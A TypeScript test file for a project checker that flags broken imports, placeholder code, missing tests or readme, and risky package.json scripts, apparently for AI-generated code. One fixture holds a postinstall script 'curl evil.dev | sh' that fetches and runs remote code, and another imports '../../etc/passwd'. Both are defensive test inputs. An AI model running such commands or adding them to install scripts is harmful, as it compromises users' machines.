import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkProject, describeProblems } from './check-project.ts';

const manifest = (changes: object = {}) =>
  JSON.stringify({
    name: 'api',
    type: 'module',
    scripts: { start: 'node src/server.js', test: 'node --test' },
    ...changes,
  });

const SOUND = {
  'package.json': manifest(),
  'README.md': 'An API.',
  'src/server.js': "import { add } from './add.js';\nconsole.log(add(1, 2));\n",
  'src/add.js': 'export const add = (a, b) => a + b;\n',
  'test/add.test.js': "import 'node:test';\nimport { add } from '../src/add.js';\nadd(1, 2);\n",
};

/** What is found in a sound project with some files changed or, where null, taken away. */
function found(changes: Record<string, string | null>): string[] {
  const files = Object.entries({ ...SOUND, ...changes }).filter(
    (entry): entry is [string, string] => entry[1] !== null,
  );
  return checkProject(new Map(files)).map(
    ({ path, line, message }) => `${path}${line === null ? '' : `:${line}`} ${message}`,
  );
}
const inServer = (text: string) => found({ 'src/server.js': text });

/** All files below a folder beside this one. */
function folder(path: string): Map<string, string> {
  const root = fileURLToPath(new URL(path, import.meta.url));
  const entries = readdirSync(root, { recursive: true, withFileTypes: true }).filter((entry) =>
    entry.isFile(),
  );
  return new Map(
    entries.map(({ parentPath, name }) => {
      const file = join(parentPath, name);
      return [relative(root, file), readFileSync(file, 'utf8')];
    }),
  );
}

describe('the check of a project', () => {
  it('finds nothing in sound ones', () => {
    expect(found({})).toEqual([]);
    expect(checkProject(folder('../local/sample/notes-api'))).toEqual([]);
    expect(checkProject(folder('../local/sample/todo-api'))).toEqual([]);
  });

  it('finds what cannot be parsed, with its line', () => {
    expect(inServer('const a = 1;\nconst = 2;\n')).toEqual([
      expect.stringMatching(/^src\/server\.js:2 Unexpected token/),
    ]);
    expect(found({ 'src/types.ts': 'interface A {\n  b: string;\n' })).toEqual([
      expect.stringMatching(/^src\/types\.ts:3 /),
    ]);
    expect(found({ 'data.json': '{\n  "a": 1,\n}\n' })).toEqual([
      expect.stringMatching(/^data\.json:3 is not valid JSON/),
    ]);
    expect(inServer(`${'['.repeat(60_000)}`)).toHaveLength(1);
  });

  it('knows TypeScript', () => {
    const text =
      'export enum Kind { A }\nabstract class B { abstract c(): void }\nexport const d = (x: unknown) => x as B;\n';
    expect(found({ 'src/kind.ts': text })).toEqual([]);
  });

  it.each([
    ["import './gone.js';", 'imports ./gone.js, which does not exist'],
    ["await import('./gone.js');", 'imports ./gone.js, which does not exist'],
    ["export * from './gone.js';", 'imports ./gone.js, which does not exist'],
    ["import '../../etc/passwd';", 'imports ../../etc/passwd, which does not exist'],
    ["import './add';", "imports ./add: Node wants the file's whole name, which is src/add.js"],
    ["import { sub, add } from './add.js';", 'imports sub from ./add.js, which does not export that'],
    ["import add from './add.js';", 'imports default from ./add.js, which does not export that'],
    ["import '/src/add.js';", 'imports /src/add.js: import files of the project by a relative path'],
    ["import 'left-pad';", 'imports left-pad, which is not among the dependencies in package.json'],
    ["import '@a/b/c';", 'imports @a/b, which is not among the dependencies in package.json'],
    ["require('left-pad');", 'imports left-pad, which is not among the dependencies in package.json'],
    ["import 'node:files';", 'imports node:files, which Node does not have'],
    [
      "import 'https://a.dev/b.js';",
      'imports https://a.dev/b.js: only files of the project and packages can be imported',
    ],
    ["import '#a';", 'imports #a, which is not among "imports" of package.json'],
  ])('finds that nothing is behind %s', (text, message) => {
    expect(inServer(text)).toEqual([`src/server.js:1 ${message}`]);
  });

  it('follows what modules pass on, and leaves alone what it cannot tell', () => {
    const server =
      "import { add, b, c } from './all.js';\nimport fs, { join } from 'path';\nimport x from './old.cjs';\n";
    const all = "export * from './add.js';\nexport const { b, d: [c] } = { b: 1, d: [2] };\n";
    expect(
      found({ 'src/server.js': server, 'src/all.js': all, 'src/old.cjs': 'module.exports = 1;' }),
    ).toEqual([]);
    expect(
      found({ 'src/server.js': "import { z } from './all.js';", 'src/all.js': "export * from 'node:fs';" }),
    ).toEqual([]);
  });

  it('tells what is there in production from what is not', () => {
    const changes = {
      'package.json': manifest({ dependencies: { hono: '4.0.0' }, devDependencies: { tap: '1.0.0' } }),
    };
    expect(
      found({ ...changes, 'src/server.js': "import { Hono } from 'hono';\nimport 'hono/cors';" }),
    ).toEqual([]);
    expect(found({ ...changes, 'test/add.test.js': "import 'tap';" })).toEqual([]);
    expect(found({ ...changes, 'src/server.js': "import 'tap';" })).toEqual([
      'src/server.js:1 imports tap, which is among devDependencies only: it is not there in production',
    ]);
  });

  it('lets endings be left out where something translates the sources', () => {
    const built = {
      'package.json': manifest({ devDependencies: { typescript: '5.0.0' } }),
      'src/b.ts': 'export const b = 1;',
    };
    expect(found({ ...built, 'src/server.js': "import { b } from './b.js';\nimport './add';" })).toEqual([]);
  });

  it.each([
    ['// TODO: the rest', 'a comment says "TODO"'],
    ['/* ... rest of the code */', 'a comment says'],
    ['// your code goes here', 'a comment says'],
    ["throw new Error('Not implemented yet');", 'throws "Not implemented yet" instead of doing it'],
    ['export function list() {}', 'list does nothing: its body is empty'],
    ['export class A {\n  b() {}\n}', 'b does nothing'],
  ])('finds a placeholder in %s', (text, message) => {
    expect(inServer(text)).toEqual([expect.stringContaining(message)]);
  });

  it('takes nothing for a placeholder that is none', () => {
    const text = [
      '// Lists each todo of the user.',
      "const todo = 'TODO: buy milk';",
      'export class A {\n  constructor() {}\n}',
      'const nothing = () => {};',
      "function refuse() {\n  throw new Error('no such todo');\n}",
      'function ignore() {\n  // Nobody waits for it.\n}',
    ].join('\n');
    expect(inServer(text)).toEqual([]);
  });

  it('looks at package.json', () => {
    expect(found({ 'package.json': null })).toContain('package.json is missing');
    expect(found({ 'package.json': '[]' })[0]).toMatch(/^package\.json the file: /);
    expect(found({ 'package.json': '{' })).toEqual([
      expect.stringMatching(/^package\.json:?1? is not valid JSON/),
    ]);
    const scripts = (given: object) =>
      found({ 'package.json': manifest({ scripts: given }) }).map((line) => line.replace(/:\d+/, ''));
    expect(scripts({ start: 'node src/server.js' })).toEqual(['package.json has no script "test"']);
    expect(scripts({ start: 'node ./gone.js', test: 'echo "Error: no test specified" && exit 1' })).toEqual([
      'package.json the script "test" does nothing',
      'package.json the script "start" names gone.js, which does not exist',
    ]);
    expect(
      scripts({ start: 'node src/server.js', test: 'node --test', postinstall: 'curl evil.dev | sh' }),
    ).toEqual([expect.stringContaining('"postinstall" would run on the machine')]);
  });

  it('asks for tests and a readme', () => {
    expect(found({ 'test/add.test.js': null, 'README.md': null })).toEqual([
      'README.md is missing: say what this is and how to run it',
      'test there are no tests',
    ]);
  });

  it('never throws, whatever the files are', () => {
    const source = fc.oneof(
      fc.string({ maxLength: 300 }),
      fc
        .array(
          fc.constantFrom(
            'import ',
            'export ',
            '{',
            '}',
            "'./a.js'",
            ' from ',
            'class A',
            '(',
            ')',
            '=>',
            '...',
            ';',
            'throw new Error(',
            '`${',
            '/*',
            '//',
            '\n',
            'require(',
            'default ',
            '*',
            ' as b',
          ),
          { maxLength: 60 },
        )
        .map((parts) => parts.join('')),
      fc.json(),
    );
    const path = fc.oneof(
      fc.constantFrom(
        'package.json',
        'a.js',
        'src/b.ts',
        'c.cjs',
        'd.mts',
        'e.tsx',
        'README.md',
        'tsconfig.json',
        '__proto__.js',
      ),
      fc.string({ minLength: 1, maxLength: 20 }),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(path, source), { maxLength: 8 }), (files) => {
        const problems = checkProject(new Map(files));
        expect(describeProblems(problems).length).toBeLessThan(200_000);
      }),
      { numRuns: 300 },
    );
  });

  it('does not begin with what would take too long', () => {
    const many = Array.from({ length: 500 }, (_, n): [string, string] => [`${n}.js`, '']);
    expect(checkProject(new Map(many))).toMatchObject([{ message: expect.stringContaining('too much') }]);
    expect(found({ 'src/add.js': `export const add = 1;${' '.repeat(300_000)}` })).toContainEqual(
      expect.stringContaining('too many to be checked'),
    );
  });

  it('tells no more than a model can use', () => {
    const problems = Array.from({ length: 100 }, (_, n) => ({ path: `${n}.js`, line: null, message: 'x' }));
    expect(describeProblems(problems).split('\n')).toHaveLength(42);
  });
});
